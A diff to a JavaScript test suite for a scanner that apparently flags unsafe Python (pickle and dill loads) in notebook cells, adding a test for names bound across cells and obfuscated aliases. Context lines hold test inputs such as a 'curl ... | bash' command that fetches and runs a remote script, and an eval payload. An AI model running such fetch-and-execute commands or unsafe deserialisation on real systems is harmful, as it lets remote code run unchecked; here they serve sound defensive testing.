@@ -162,6 +162,20 @@ describe('unsafe Python', () => {
     assert.deepEqual(file('x = """\n!curl -s https://x.y/i.sh | bash\n"""'), []);
   });
 
+  it('finds in whichever cell a name is bound, for few names and for many, however they are written', () => {
+    for (const count of [2, 40]) {
+      const names = Array.from({ length: count }, (_, i) => `own${i}`);
+      const drafts = cells(
+        'x = 1',
+        ...names.map((name, i) => `${i % 2 === 0 ? `import dill\n${name} = dill` : `from pack import ${name}`}`),
+        ...names.map((name) => `${name}.load(f)`),
+      );
+      assert.equal(told(drafts).length, count / 2, `${count} names`);
+    }
+    assert.deepEqual(told(cells('import pickle as \uff50\uff4b', 'pk.load(f)')), ['python/pickle-load medium']);
+    assert.deepEqual(told(cells('from pickle import *', 'load(f)', 'y = 2')), ['python/pickle-load medium']);
+  });
+
   it('leaves cells of other languages alone', () => {
     assert.deepEqual(cells('%%html\n<script>eval(input())</script>'), []);
   });
